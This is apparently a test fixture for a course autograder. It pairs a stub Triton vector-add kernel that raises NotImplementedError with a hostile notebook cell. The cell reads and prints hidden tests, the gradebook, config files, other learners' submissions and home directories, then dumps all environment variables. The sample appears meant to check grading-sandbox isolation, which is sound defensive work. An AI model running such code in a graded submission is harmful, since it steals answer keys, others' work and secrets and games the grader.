# An empty kernel (the release's stub: cheap to grade), and a cell that prints every file of the course it can reach: the hidden tests in
# source/, the gradebook, the configuration, another learner's submission, the grader's home and environment.
# expect-fail: test_vector_add_full_blocks test_vector_add_ragged_sizes test_vector_add_block_sizes test_vector_add_large test_vector_add_fp16
# expect-message: NotImplementedError
@triton.jit
def triton_vector_add_kernel(
    x_ptr,
    y_ptr,
    output_ptr,
    n_elements,
    BLOCK_SIZE: tl.constexpr,
):
    raise NotImplementedError()
# %% after-kernel
import os
wanted = ["{{course}}/source", "{{course}}/gradebook.db", "{{course}}/submitted", "{{course}}/autograded",
          "{{course}}/nbgrader_config.py", "{{course}}/release", "/root", "/home", os.path.expanduser("~")]
here = os.getcwd()
while here != "/":  # and the working folder and every folder above it
    wanted.append(here)
    here = os.path.dirname(here)
SKIP = {"usr", "etc", "proc", "sys", "dev", "bin", "sbin", "lib", "lib64", "run", "var", "snap", "opt",
        ".venv", "site-packages", ".cache", ".git", "node_modules"}
budget, printed, missing = 4 << 20, [], []
for base in wanted:
    if not os.path.exists(base):
        missing.append(base)
        continue
    files = [base] if os.path.isfile(base) else []
    for folder, dirs, names in os.walk(base):
        dirs[:] = [d for d in dirs if d not in SKIP]
        files += [os.path.join(folder, n) for n in names if n.endswith((".ipynb", ".py", ".db", ".json", ".log"))]
        if len(files) > 500:
            break
    for path in files[:500]:
        if budget <= 0 or path in printed:
            break
        try:
            with open(path, "rb") as f:
                data = f.read(min(budget, 1 << 20))
        except OSError:
            continue
        budget -= len(data)
        printed.append(path)
        print(f"==> {path}\n{data.decode('utf-8', 'replace')}")
print(dict(os.environ))
print(f"HOSTILE-RAN read_secrets: {len(printed)} files printed, {len(missing)} paths missing")
